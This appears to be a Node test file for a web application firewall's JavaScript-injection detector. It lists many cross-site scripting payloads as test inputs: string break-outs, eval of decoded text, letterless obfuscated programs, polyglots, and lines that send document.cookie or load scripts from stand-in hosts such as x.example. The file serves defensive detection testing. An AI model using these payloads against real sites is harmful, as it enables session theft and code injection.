import assert from "node:assert/strict";
import { test } from "node:test";
import { javascript } from "../../../src/waf/detect/javascript.ts";
import { kindsOf } from "./markup-detectors.ts";

function reports(kind: string, texts: readonly string[]): void {
  for (const text of texts) assert.ok(kindsOf(javascript, text).includes(kind), `${kind} not in: ${text}`);
}

const calls = [
  "alert(1)",
  "confirm`1`",
  "(prompt)(1)",
  "alert?.(1)",
  "alert.call(null,1)",
  "window.alert(1)",
  "top['alert'](1)",
];

test("a quote, an operator and a call break out of the page's string, for each quote and operator", () => {
  for (const quote of ["'", '"', "`"]) {
    for (const operator of ["-", "+", ";", ");", "}]);", ",", "||", "?x:", "^", "*", ";{", "\n;"]) {
      for (const call of calls) reports("javascript.breakout", [`x${quote}${operator}${call}//`]);
    }
  }
});

test("break-outs end with comments, open strings or nothing, and may be escaped", () => {
  reports("javascript.breakout", [
    "'/alert(1)/'",
    "k'/confirm(document.domain)/'",
    "';open('//k.example')//",
    "';navigator.sendBeacon('//k.example')//",
    '");k.append(q)//',
    "'-alert(1)-'",
    '\\";alert(1)//',
    "'}};alert(1);{{'",
    '");document.location="//x.example"//',
    "';location='//x.example';'",
    "'+fetch('//x.example')+'",
    "';import('//x.example/a.js');'",
    "'/**/-/**/alert(1)//",
    "'];setTimeout('go()');//",
    "';new Image().src='//x.example';'",
    "'+self[name]+'",
    "';onerror=alert;throw 1;'",
    "'-eval(name)-'",
  ]);
});

test("apostrophes and quotations in sentences are no break-outs", () => {
  for (const text of [
    "it's (alert) time",
    "'one', 'two' and alert(s)",
    'she said "no" - then: top. secret',
  ]) {
    assert.deepEqual(kindsOf(javascript, text), [], text);
  }
});

test("a value that starts with a dialog call is a program", () => {
  reports("javascript.call", [
    ...calls.slice(0, 6),
    "alert/**/(1)",
    ";alert(1)//",
    "1;alert(1)",
    "1-alert(1)",
    "*/alert(1)/*",
    "x;alert(1)//",
    "+alert(1)+",
    "void alert(1)",
    "eval('go()')",
    "setTimeout(`go()`)",
    "import('//x.example/a.js')",
    "})});alert(1)//",
  ]);
});

test("dialogs that show the cookie, the domain or a test word are found in longer values", () => {
  reports("javascript.probe", [
    "x = 1; y = 2; if (x) alert(document.cookie)",
    "<b>alert(document.domain)",
    "foo bar prompt(window.origin)",
    "zzz confirm('xss by me')",
    "zzz alert(/XSS/)",
  ]);
});

test("computed and interrupted members of global objects are found", () => {
  reports("javascript.computed", [
    "window['alert'](1)",
    "self['al'+'ert'](1)",
    "top[`eval`]('x')",
    "parent[/al/.source+/ert/.source](1)",
    "document['cookie']",
    "(document)['domain']",
    "document/**/.cookie",
    "document . /* x */ cookie",
    "frames?.['alert'](1)",
  ]);
});

test("functions made from text, aliases, decoded text and callbacks are found", () => {
  reports("javascript.constructor", ["[].constructor.constructor('x')()", "x.constructor('alert(1)')()"]);
  reports("javascript.alias", [
    "a=eval;b=alert;a(b(1))",
    "x=prompt,x(1)",
    "[1].find(alert)",
    "[2].map(confirm)",
    "onerror=alert;throw 1",
    "{onerror=eval}throw'=go()'",
  ]);
  reports("javascript.decoded", [
    "eval(atob('eA=='))",
    "eval(unescape('%61'))",
    "eval(String.fromCharCode(97,98,99))",
    "x(String.fromCharCode(88,83,83))",
    "Function(atob('eA=='))()",
    "eval(location.hash.slice(1))",
    "eval(name)",
  ]);
});

test("programs without letters are found, empty arrays and Markdown images are not", () => {
  reports("javascript.symbols", [
    "[][(![]+[])[+[]]]",
    "(!![]+[])[+!+[]]",
    "while(!![]){}",
    "+!![]",
    "$=~[];$={}",
    "[]['map']['constructor']",
  ]);
  for (const text of [
    "[]",
    "[[],[]]",
    "![](a.png)",
    "wow!![](a.png)",
    "![][logo]",
    "a[]=1&b[]=2",
    "(![](x.svg))",
  ]) {
    assert.deepEqual(kindsOf(javascript, text), [], text);
  }
});

test("cookies joined to addresses, polyglots and template placeholders are found", () => {
  reports("javascript.exfiltration", [
    "x.src='//x.example/?'+document.cookie",
    "fetch(u,{body:btoa(document.cookie)})",
    "eval(window.localStorage)",
  ]);
  reports("javascript.polyglot", ["/*'/*\"/*`*/"]);
  reports("javascript.template", ["${alert(1)}", "x${ confirm`1` }", "${eval('x')}"]);
});

test("tagged templates, handlers of objects and replaced methods run what they are given", () => {
  reports("javascript.call", ["setTimeout`go\\x281\\x29`", "with(document)alert(cookie)"]);
  reports("javascript.constructor", ["Set.constructor`go\\x281\\x29```"]);
  reports("javascript.alias", ["window.onload=alert(1)", "Object.prototype.toString=alert"]);
});
